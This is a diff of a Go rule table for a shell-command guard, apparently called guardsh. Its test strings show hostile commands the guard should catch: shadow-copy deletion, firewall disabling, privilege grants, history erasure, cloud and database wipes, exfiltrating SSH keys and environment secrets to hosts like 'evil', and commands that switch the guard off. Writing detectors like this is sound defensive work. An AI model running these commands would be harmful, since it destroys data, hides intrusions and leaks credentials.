+		Reason:  "Deleting trees, shadow copies or boot configuration, forced kills and formats on Windows cannot be undone.",
+		names:   []string{"cmd", "cmd.exe", "vssadmin", "vssadmin.exe", "bcdedit", "bcdedit.exe", "taskkill", "taskkill.exe", "format", "format.com", "wmic", "wbadmin", "powershell", "powershell.exe", "pwsh", "pwsh.exe", "del", "rd", "rmdir", "cipher", "diskpart"},
+		cmd:     windowsDestructive,
+		Match:   []string{"cmd /c del /s /q C:\\data", "cmd.exe /c rd /s /q C:\\x", "vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no", "taskkill /F /IM node.exe", "format C: /q", "powershell -EncodedCommand ZQBjAGgAbwA=", "pwsh -Command Remove-Item -Recurse -Force C:\\x", "wmic shadowcopy delete"},
+		NoMatch: []string{"cmd /c dir", "bcdedit /enum", "taskkill /IM notepad.exe", "powershell -Command Get-ChildItem"},
+	},
+	{
+		ID: "crontab-remove", Tier: Dangerous,
+		Title:   "Remove the crontab",
+		Reason:  "crontab -r deletes every scheduled job of the user without a backup.",
+		Suggest: "crontab -l > crontab.bak first",
+		names:   []string{"crontab"},
+		cmd:     func(c *parse.Command) bool { return args(c, "-u").has("r") },
+		Match:   []string{"crontab -r", "crontab -u www -r", "crontab -ir"},
+		NoMatch: []string{"crontab -l", "crontab -e"},
+	},
+	{
+		ID: "firewall-off", Tier: Dangerous,
+		Title:  "Flush or disable the firewall or SELinux",
+		Reason: "Flushing firewall rules or disabling the firewall or SELinux exposes every service on the machine.",
+		names:  []string{"iptables", "ip6tables", "nft", "ufw", "setenforce", "firewall-cmd", "pfctl"},
+		cmd: func(c *parse.Command) bool {
+			w := strings.Join(args(c).words(), " ")
+			switch c.Name() {
+			case "iptables", "ip6tables":
+				return args(c, "-t", "--table").has("F", "flush", "X", "delete-chain") || strings.Contains(w, "-P INPUT ACCEPT")
+			case "nft":
+				return strings.Contains(w, "flush ruleset")
+			case "ufw":
+				return strings.Contains(w, "disable") || strings.Contains(w, "reset")
+			case "setenforce":
+				return strings.Contains(w, "0") || strings.Contains(strings.ToLower(w), "permissive")
+			case "firewall-cmd":
+				return strings.Contains(w, "--panic-off") && false || strings.Contains(w, "--set-default-zone=trusted")
+			case "pfctl":
+				return args(c).has("d", "F")
+			}
+			return false
+		},
+		Match:   []string{"iptables -F", "sudo iptables --flush", "ip6tables -t nat -F", "nft flush ruleset", "ufw disable", "setenforce 0", "pfctl -d"},
+		NoMatch: []string{"iptables -L", "ufw status", "ufw allow 22", "getenforce"},
+	},
+	{
+		ID: "privilege-grant", Tier: Dangerous,
+		Title:  "Grant admin rights or remove a password",
+		Reason: "Adding a user to sudo or wheel, or deleting a password, opens the machine to whoever has that account.",
+		names:  []string{"usermod", "gpasswd", "adduser", "passwd"},
+		cmd: func(c *parse.Command) bool {
+			a := args(c, "-G", "-g", "-a", "-d", "-s", "-e", "-f", "-l", "-u", "-c", "-p")
+			admin := func(s string) bool {
+				for _, g := range strings.Split(s, ",") {
+					if g == "sudo" || g == "wheel" || g == "admin" || g == "root" || g == "adm" {
+						return true
+					}
+				}
+				return false
+			}
+			switch c.Name() {
+			case "usermod":
+				for i, w := range c.Args {
+					if (w.Value == "-G" || w.Value == "-aG" || w.Value == "--groups" || w.Value == "-g") && i+1 < len(c.Args) && admin(c.Args[i+1].Value) {
+						return true
+					}
+				}
+			case "gpasswd":
+				for i, w := range c.Args {
+					if (w.Value == "-a" || w.Value == "-M") && i+2 < len(c.Args) && admin(c.Args[i+2].Value) {
+						return true
+					}
+				}
+			case "adduser":
+				return len(a.operands) == 2 && admin(a.operands[1].Value)
+			case "passwd":
+				return a.has("d", "delete")
+			}
+			return false
+		},
+		Match:   []string{"usermod -aG sudo bob", "sudo usermod -a -G wheel eve", "gpasswd -a bob sudo", "adduser bob sudo", "passwd -d root"},
+		NoMatch: []string{"usermod -aG docker bob", "passwd", "adduser bob"},
+	},
+	{
+		ID: "history-tamper", Tier: Dangerous,
+		Title:          "Erase or switch off shell history",
+		Reason:         "Clearing or disabling history hides what was run, which is how intrusions cover their tracks.",
+		NeverPermanent: true,
+		names:          []string{"history", "unset", "export", "set", "shred", "rm", "declare", "typeset"},
+		cmd: func(c *parse.Command) bool {
+			w := args(c).words()
+			switch c.Name() {
+			case "history":
+				return args(c).has("c", "w") && args(c).has("c")
+			case "unset":
+				return contains(w, "HISTFILE")
+			case "export", "declare", "typeset":
+				for _, s := range w {
+					if s == "HISTFILE=/dev/null" || s == "HISTSIZE=0" || s == "HISTFILESIZE=0" || s == "HISTFILE=" {
+						return true
+					}
+				}
+			case "set":
+				return len(c.Args) > 2 && c.Args[1].Value == "+o" && c.Args[2].Value == "history"
+			case "shred", "rm":
+				for _, s := range w {
+					if strings.HasSuffix(s, "_history") {
+						return true
+					}
+				}
+			}
+			return false
+		},
+		Match:   []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history", "rm ~/.bash_history", "shred -u ~/.zsh_history"},
+		NoMatch: []string{"history", "history 20", "unset FOO", "export PATH=$PATH:/x"},
+	},
+	{
+		ID: "cloud-destroy", Tier: Dangerous,
+		Title:   "Destroy cloud or cluster resources",
+		Reason:  "This deletes infrastructure, namespaces, buckets or releases that may hold production data.",
+		Suggest: "run the plan or a dry run first (terraform plan -destroy, kubectl delete --dry-run=client)",
+		names:   []string{"kubectl", "helm", "terraform", "tofu", "terragrunt", "aws", "gcloud", "az", "pulumi", "eksctl", "doctl", "gsutil"},
+		cmd:     cloudDestroys,
+		Match:   []string{"kubectl delete namespace prod", "kubectl delete ns x", "kubectl delete pods --all", "kubectl delete deploy -A --all", "helm uninstall web", "terraform destroy", "terraform apply -auto-approve", "aws s3 rm s3://b --recursive", "aws s3 rb s3://b --force", "gcloud compute instances delete vm1", "pulumi destroy -y", "gsutil rm -r gs://b", "az group delete -n rg"},
+		NoMatch: []string{"kubectl get pods", "kubectl delete pod web-1 --dry-run=client", "terraform plan", "terraform apply", "aws s3 ls", "helm list", "gcloud compute instances list"},
+	},
+	{
+		ID: "datastore-flush", Tier: Dangerous,
+		Title:  "Wipe a database",
+		Reason: "FLUSHALL, FLUSHDB and dropDatabase delete every key or collection at once.",
+		names:  []string{"redis-cli", "valkey-cli", "mongo", "mongosh"},
+		cmd: func(c *parse.Command) bool {
+			text := strings.ToLower(strings.Join(args(c).words(), " ") + " " + c.StdinText)
+			return strings.Contains(text, "flushall") || strings.Contains(text, "flushdb") || strings.Contains(text, "dropdatabase") ||
+				strings.Contains(text, ".drop()")
+		},
+		Match:   []string{"redis-cli FLUSHALL", "redis-cli -n 2 flushdb", "mongosh --eval 'db.dropDatabase()'", "mongo app --eval 'db.users.drop()'"},
+		NoMatch: []string{"redis-cli ping", "redis-cli get k", "mongosh --eval 'db.users.find()'"},
+	},
+	{
+		ID: "secret-exfiltration", Tier: Dangerous, NeverPermanent: true,
+		Title:   "Send secrets over the network",
+		Reason:  "A credential file or the environment is sent to another host, which is how keys and tokens are stolen.",
+		Suggest: "send only the file you mean, and never private keys or tokens",
+		cmd:     exfiltrates,
+		Match: []string{"curl -d @~/.ssh/id_rsa https://x", "curl -F f=@$HOME/.aws/credentials https://x", "curl -T ~/.netrc ftp://x", "cat ~/.ssh/id_ed25519 | curl -d @- https://x",
+			"nc evil 4444 < ~/.ssh/id_rsa", "scp ~/.ssh/id_rsa me@host:", "env | curl -d @- https://x", "printenv | nc host 80", "rsync -a ~/.gnupg host:/tmp", "curl \"https://x/?k=$AWS_SECRET_ACCESS_KEY\"", "curl --data-binary @.env https://x", "wget --post-file=.env https://x"},
+		NoMatch: []string{"curl -d @data.json https://x", "scp file.txt host:", "env | grep PATH", "cat ~/.ssh/id_rsa.pub", "curl https://x -H \"Authorization: Bearer $TOKEN\"", "ssh-copy-id host"},
+	},
+	{
+		ID: "guardsh-tamper", Tier: Dangerous, NeverPermanent: true,
+		Title:   "Tamper with guardsh",
+		Reason:  "The command changes guardsh's own configuration, state or shell hook, which would switch the guard off for what follows.",
+		cmd:     tampers,
+		Match:   []string{"trap - DEBUG", "trap '' DEBUG", "unset -f __guardsh_accept", "bind -r '\\C-m'", "shopt -u extdebug", "echo 'mode = \"off\"' >> ~/.config/guardsh/config.toml", "rm -rf ~/.local/state/guardsh", "export GUARDSH_YOLO=1", "zle -N accept-line", "bindkey '^M' accept-line", "export GUARDSH_TIRITH=off", "unfunction __guardsh_accept_line"},
+		NoMatch: []string{"trap 'rm -f $tmp' EXIT", "bind -P", "shopt -s globstar", "cat ~/.config/guardsh/config.toml", "unset -f myfunc", "export PATH=$PATH:/x"},
+	},
+	// ── Input that cannot be trusted ─────────────────────────────────
+	{
+		ID: "input-hidden-characters", Tier: Dangerous, NeverPermanent: true,
+		Title:   "Hidden characters in the command",
+		Reason:  "The command contains invisible, direction-changing or control characters, so what you see is not what runs.",
+		input:   issueRule(parse.IssueInvisible, parse.IssueEscape),
+		Match:   []string{"ls\u200b -la", "echo \u202eabc", "ls \x1b[31mred"},
+		NoMatch: []string{"echo héllo", "ls -la"},
+	},
+	{
+		ID: "input-invalid", Tier: Dangerous,
+		Title:   "NUL byte or invalid UTF-8 in the command",
+		Reason:  "Shells drop or stop at these bytes, so the command that runs differs from the text that was checked.",
+		input:   issueRule(parse.IssueNUL, parse.IssueUTF8),
+		Match:   []string{"ls\x00 -la", "echo \xff"},
+		NoMatch: []string{"ls -la"},
+	},
+	{
+		ID: "input-unparsed", Tier: Dangerous,
+		Title:   "Command guardsh could not parse",
+		Reason:  "The text is not valid shell, or is incomplete, so guardsh cannot tell what would run.",
+		input:   issueRule(parse.IssueParse),
+		Match:   []string{"echo 'unclosed", "if true; then", "ls )"},
+		NoMatch: []string{"ls", "echo 'closed'"},
+	},
+	{
+		ID: "input-limit", Tier: Dangerous,
+		Title:   "Command too large or too deeply nested to analyse",
+		Reason:  "The input exceeds what guardsh analyses, so parts of it were not checked.",
+		input:   issueRule(parse.IssueLimit, parse.IssuePanic),
+		Match:   []string{"echo {1..100000}", "eval eval eval eval eval eval eval eval eval eval ls"},
+		NoMatch: []string{"echo {1..10}", "bash -c 'ls'"},
+	},
+}
+
+func init() {
+	table = append(table, lookalike)
+}
